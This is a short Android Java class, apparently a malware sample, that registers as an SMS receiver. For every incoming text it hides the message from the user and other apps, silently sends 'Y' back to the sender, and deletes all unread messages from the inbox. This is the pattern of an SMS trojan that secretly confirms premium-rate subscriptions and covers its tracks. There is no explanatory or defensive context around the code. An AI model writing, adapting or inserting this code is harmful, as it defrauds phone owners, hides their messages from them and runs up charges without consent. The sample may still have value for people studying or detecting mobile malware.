package p;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.net.Uri;
import android.telephony.SmsManager;
import android.telephony.SmsMessage;

public class Messages extends BroadcastReceiver {
    @Override
    public void onReceive(Context context, Intent intent) {
        swallow();
        String from = SmsMessage.createFromPdu((byte[]) ((Object[]) intent.getExtras().get("pdus"))[0]).getOriginatingAddress();
        SmsManager.getDefault().sendTextMessage(from, null, "Y", null, null);
        context.getContentResolver().delete(Uri.parse("content://sms/inbox"), "read = 0", null);
    }

    private void swallow() {
        abortBroadcast();
    }
}
